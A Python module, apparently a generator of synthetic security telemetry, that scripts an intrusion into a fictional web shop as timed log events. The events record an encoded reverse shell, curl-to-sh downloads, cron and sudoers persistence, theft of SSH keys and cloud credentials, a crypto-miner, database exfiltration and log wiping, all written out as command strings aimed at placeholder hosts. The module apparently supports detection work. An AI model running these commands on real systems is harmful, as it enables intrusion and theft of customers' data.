"""A shop: a web shell becomes a miner, and the customers' data leave. Times are seconds into the play."""

from . import world
from .records import connection, digest, endpoint, file, number_of, traffic

SHOP, SHOP_DB = world.NORTHWIND.host("web-01"), world.NORTHWIND.host("db-01")
INTRUDER, DROP, POOL = "198.51.100.42", "203.0.113.90", "198.51.100.60"
FPM, DASH, BASH = "/usr/sbin/php-fpm8.2", "/usr/bin/dash", "/usr/bin/bash"
DEN = "/dev/shm/.k"
SHELL_FILE = "/var/www/shop/wp-content/uploads/2026/11/thumb.php"


def visit(at, uri, agent="curl/8.5.0", method="GET"):
    """A request of the intruder's to the shop."""
    return traffic(
        at,
        SHOP,
        INTRUDER,
        443,
        sent=1800 + number_of(uri) % 4000,
        received=540,
        direction="inbound",
        application="http",
        http_method=method,
        http_host="shop.example",
        http_uri=uri,
        http_user_agent=agent,
    )


def way_in():
    scanner = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
    pages = (
        "/wp-login.php",
        "/wp-json/wp/v2/users",
        "/wp-content/plugins/gallery-pro/readme.txt",
        "/xmlrpc.php",
        "/?author=1",
    )
    address = "/wp-content/uploads/2026/11/thumb.php?cmd="
    return (
        [visit(3.8 + 0.9 * n, page, scanner) for n, page in enumerate(pages)]
        + [
            visit(9.4, "/wp-content/plugins/gallery-pro/get.php?f=../../../../etc/passwd"),
            visit(12.9, "/wp-admin/admin-ajax.php?action=gallery_upload", method="POST"),
            file(14.0, SHOP, SHELL_FILE, 1_423, "text/x-php"),
        ]
        + [
            visit(at, address + command)
            for at, command in ((19.8, "id"), (24.0, "uname+-a"), (27.9, "cat+wp-config.php"), (33.6, "run"))
        ]
        + [
            endpoint(20.1, SHOP, DASH, "sh -c id", parent=FPM, user="www-data", folder="/var/www/shop"),
            endpoint(
                24.2, SHOP, DASH, "sh -c uname -a; ip a; ps aux", parent=FPM, user="www-data", folder="/var/www/shop"
            ),
            endpoint(
                28.1,
                SHOP,
                "/usr/bin/cat",
                "cat /var/www/shop/wp-config.php",
                parent=DASH,
                user="www-data",
                folder="/var/www/shop",
            ),
        ]
    )


def reverse_shell():
    encoded = "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjQyLzQ0NDQgMD4mMQ== | base64 -d | bash"
    return [
        endpoint(33.9, SHOP, DASH, encoded, parent=FPM, user="www-data", folder="/var/www/shop"),
        endpoint(
            36.0,
            SHOP,
            BASH,
            f"bash -i >& /dev/tcp/{INTRUDER}/4444 0>&1",
            parent=BASH,
            user="www-data",
            folder="/var/www/shop",
            network_connections=[connection(SHOP, INTRUDER, 4444)],
        ),
        traffic(36.4, SHOP, INTRUDER, 4444, sent=90_400, received=12_204, duration=180_000, application="unknown"),
        endpoint(48.3, SHOP, DASH, f"sh -c curl -fsSL http://{INTRUDER}/k.sh | sh", parent=BASH, user="www-data"),
        traffic(
            48.6,
            SHOP,
            INTRUDER,
            80,
            sent=310,
            received=4_212,
            application="http",
            http_method="GET",
            http_host=INTRUDER,
            http_uri="/k.sh",
            http_user_agent="curl/8.5.0",
        ),
        endpoint(
            55.2,
            SHOP,
            BASH,
            f"bash -c (crontab -l; echo '*/5 * * * * curl -fsSL http://{INTRUDER}/k.sh | sh') | crontab -",
            parent=DASH,
            user="www-data",
        ),
        endpoint(
            55.4,
            SHOP,
            "/usr/bin/crontab",
            "crontab -",
            parent=BASH,
            user="www-data",
            file_writes=[{"path": "/var/spool/cron/crontabs/www-data"}],
        ),
    ]


def root_and_secrets():
    return [
        endpoint(
            70.6,
            SHOP,
            BASH,
            "bash -c echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/90-www",
            parent=BASH,
            user="root",
        ),
        endpoint(78.1, SHOP, "/usr/bin/cat", "cat /etc/passwd /etc/shadow", parent=BASH, user="root"),
        endpoint(
            84.9,
            SHOP,
            "/usr/bin/tar",
            f"tar czf {DEN}/c.tgz /home/deploy/.ssh/id_ed25519 /home/deploy/.aws/credentials",
            parent=BASH,
            user="root",
            file_writes=[{"path": f"{DEN}/c.tgz"}],
        ),
        traffic(
            88.4,
            SHOP,
            "169.254.169.254",
            80,
            sent=190,
            received=1_312,
            application="http",
            http_method="GET",
            http_host="169.254.169.254",
            http_uri="/latest/meta-data/iam/security-credentials/web-role",
            http_user_agent="curl/8.5.0",
        ),
        endpoint(
            92.7,
            SHOP,
            BASH,
            "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK k >> /root/.ssh/authorized_keys",
            parent=BASH,
            user="root",
            file_writes=[{"path": "/root/.ssh/authorized_keys"}],
        ),
        endpoint(104.3, SHOP, "/usr/bin/systemctl", "systemctl stop auditd", parent=BASH, user="root"),
    ]


def miner():
    worker = f"{DEN}/kworkerd"
    events = [
        file(
            110.5,
            SHOP,
            worker,
            8_912_896,
            "application/x-executable",
            user="root",
            source=f"http://{INTRUDER}/kworkerd",
        ),
        endpoint(
            112.2,
            SHOP,
            worker,
            f"./kworkerd -o stratum+tcp://{POOL}:3333 -u 48xQ --donate-level 1 -B",
            parent=BASH,
            user="root",
            folder=DEN,
            network_connections=[connection(SHOP, POOL, 3333)],
        ),
    ]
    return events + [
        traffic(
            114.0 + 19.0 * n,
            SHOP,
            POOL,
            3333,
            sent=1_820 + n * 40,
            received=9_021,
            application="stratum",
            duration=19_000,
        )
        for n in range(6)
    ]


def data_leave():
    dump = f"{DEN}/s.sql.gz"
    events = [
        endpoint(
            140.2,
            SHOP,
            "/usr/bin/curl",
            f"curl -s -T {DEN}/c.tgz https://{DROP}/up/web01",
            parent=BASH,
            user="root",
            network_connections=[connection(SHOP, DROP, 443)],
        ),
        endpoint(
            168.0,
            SHOP_DB,
            "/usr/bin/pg_dump",
            "pg_dump -Z 6 -f /dev/shm/.k/s.sql.gz shop",
            parent=BASH,
            user="postgres",
            file_writes=[{"path": dump}],
        ),
        file(181.7, SHOP_DB, dump, 1_480_000_000, "application/gzip", user="postgres"),
        endpoint(
            184.4,
            SHOP_DB,
            "/usr/bin/curl",
            f"curl -s -T {dump} https://{DROP}/up/db01",
            parent=BASH,
            user="postgres",
            network_connections=[connection(SHOP_DB, DROP, 443)],
        ),
        traffic(199.5, SHOP_DB, DROP, 443, sent=1_481_204_770, received=2_104_000, duration=15_000, application="tls"),
        endpoint(
            222.6, SHOP, BASH, "bash -c rm -f /var/log/auth.log /var/log/wtmp; history -c", parent=BASH, user="root"
        ),
    ]
    for n in range(6):
        name = f"{digest(f'tunnel {n}')[:56]}.t.cdn-stat.example"
        events.append(
            traffic(
                150.0 + 2.3 * n,
                SHOP,
                "10.30.0.2",
                53,
                sent=98,
                received=140,
                direction="internal",
                protocol="udp",
                application="dns",
                dns_query=name,
            )
        )
    return events


def story():
    return way_in() + reverse_shell() + root_and_secrets() + miner() + data_leave()
